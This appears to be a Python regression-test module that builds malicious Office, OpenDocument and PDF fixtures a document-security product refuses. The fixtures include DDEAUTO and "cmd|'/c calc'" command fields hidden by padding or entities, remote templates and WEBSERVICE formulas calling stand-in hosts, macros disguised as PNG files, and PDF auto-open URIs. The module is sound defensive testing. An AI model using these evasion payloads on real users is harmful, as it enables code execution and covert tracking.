"""Harmful forms by which an attack on the running product once passed: each is refused since."""

from tests.foundation.files.harmful.packages import (
    DOCUMENT,
    EVIL,
    EXCEL,
    MICROSOFT,
    XML,
    formula,
    odf,
    pdf,
    relations_of,
    run,
    settings,
    sheet,
    word,
)  # fmt: skip
from tests.foundation.files.offices import changed, part_of
from tests.hostile import Made

_TEMPLATE = f"{DOCUMENT}/relationships/attachedTemplate"
_RELATED = "word/_rels/settings.xml.rels"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def _template(old: str, new: str) -> Made:
    """A text whose settings ask for a template, said in another way."""
    return lambda: changed(
        settings(_TEMPLATE), {_RELATED: part_of(settings(_TEMPLATE), _RELATED).replace(old, new)}
    )


def _field(code: str) -> Made:
    return lambda: word(f"<w:p>{run(code)}</w:p>")


def _carried(kind: str, name: str, part: bytes) -> Made:
    """A text that holds a part of another program under a neutral name."""
    return lambda: word(
        parts={"word/_rels/document.xml.rels": relations_of((kind, name, "")), f"word/{name}": part},
        types={f"word/{name}": "image/png"},
    )


OFFICES: dict[str, Made] = {
    "mode with an entity": _template("'External'", '"&#69;xternal"'),
    "type that ends as a link": _template(_TEMPLATE, f"{EVIL}/hyperlink"),
    "relationships in capitals": lambda: word(
        parts={"word/_rels/document.xml.RELS": relations_of((_TEMPLATE, EVIL, "External"))}
    ),
    "relationships in UTF-7": lambda: word(
        parts={
            "word/_rels/document.xml.rels": '<?xml version="1.0" encoding="UTF-7"?>'
            + relations_of((_TEMPLATE, EVIL, "External")).removeprefix(XML).replace("<", "+ADw-").replace(">", "+AD4-")
        }
    ),
    "command after blanks": _field(" " * 60 + "DDEAUTO cmd"),
    "command in two runs": _field(" DDE|AUTO cmd"),
    "command with an entity": _field(" D&#68;E cmd"),
    "command in small letters": _field(" ddeauto cmd"),
    "picture included": _field(f' INCLUDEPICTURE "{EVIL}" \\d'),
    "text included": _field(f' INCLUDETEXT "{EVIL}"'),
    "piece of another format": lambda: word(
        '<w:altChunk r:id="r1"/>',
        {"word/_rels/document.xml.rels": relations_of((f"{DOCUMENT}/relationships/aFChunk", "x.html", "")),
         "word/x.html": "<html/>"},
        {"word/x.html": "text/html"},
    ),
    "macros under a neutral name": _carried(f"{MICROSOFT}/vbaProject", "a.png", _OLE),
    "object under a neutral name": _carried(f"{DOCUMENT}/relationships/image", "b.png", _OLE),
    "formula that fetches": lambda: formula('_xlfn.WEBSERVICE("http://e.x")'),
    "picture of a formula": lambda: formula('_xlfn.IMAGE("http://e.x")'),
    "formula that commands": lambda: formula("cmd|'/c calc'!A0"),
    "connection to the web": lambda: sheet(
        relations=((f"{DOCUMENT}/relationships/connections", "c.xml", ""),),
        parts={"xl/c.xml": f'{XML}<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               f'<connection id="1" type="4" refreshOnLoad="1"><webPr url="{EVIL}"/></connection></connections>'},
        types={"xl/c.xml": f"{EXCEL}.connections+xml"},
    ),
    "namespace with an entity": lambda: changed(
        _drawn(), {"content.xml": part_of(_drawn(), "content.xml").replace("1999/xlink", "1999/&#120;link")}
    ),
    "script of another prefix": lambda: odf(
        "<text:p/>",
        before='<o:scripts xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><o:script/></o:scripts>',
    ),
    "listener of another prefix": lambda: odf(
        '<s1:event-listener xmlns:s1="urn:oasis:names:tc:opendocument:xmlns:script:1.0" s1:language="Basic"/>'
    ),
}  # fmt: skip


def _drawn() -> bytes:
    return odf(f'<text:p><draw:frame><draw:image xlink:href="{EVIL}"/></draw:frame></text:p>')


_IMAGE = "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"
PDFS: dict[str, Made] = {
    "address that opens by itself": lambda: pdf(catalog="/OpenAction << /S /URI /URI (http://e.x) >>"),
    "thread of another file": lambda: pdf(catalog="/OpenAction << /S /Thread /F (//evil/x.pdf) /D 0 >>"),
    "stream of an address": lambda: pdf(
        f"{_IMAGE} /F << /FS /URL /F (http://e.x) >> /Length 0 >>\nstream\n\nendstream"
    ),
    "reference by an address": lambda: pdf("<< /Ref << /F << /FS /URL /F (http://e.x) >> /Page 0 >> >>"),
    "object of no table": lambda: pdf(tail=b"77 0 obj\n<< /S /J#61vaScript /JS (x) >>\nendobj\n"),
}
